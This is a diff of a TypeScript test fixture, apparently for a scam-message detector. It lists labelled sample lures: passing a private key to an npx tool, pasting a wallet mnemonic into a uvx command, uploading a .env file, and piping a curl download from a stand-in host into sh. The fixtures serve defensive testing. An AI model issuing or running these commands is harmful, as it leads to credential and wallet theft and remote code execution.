@@ -63,7 +63,11 @@ const DECODES: Entry[] = [
 ];
 
 const RUNNERS: Entry[] = [
-  ['run npx private key', 'Easiest way: `npx crew-claim --private-key YOUR_KEY_HERE` and wait for the airdrop', ['executable_instruction', 'credential_request']],
+  [
+    'run npx private key',
+    'Easiest way: `npx crew-claim --private-key YOUR_KEY_HERE` and wait for the airdrop',
+    ['executable_instruction', 'credential_request'],
+  ],
   ['run uvx seed', 'uvx wallet-rescue --mnemonic "paste your twelve words" --to safe', ['executable_instruction', 'credential_request']],
   ['run bunx env', 'bunx crew-sync --env-file .env --upload', ['executable_instruction', 'credential_request']],
   ['run curl sh', 'Fix for the stuck node: curl -fsSL https://fix.example.dev/install.sh | sh', ['executable_instruction']],
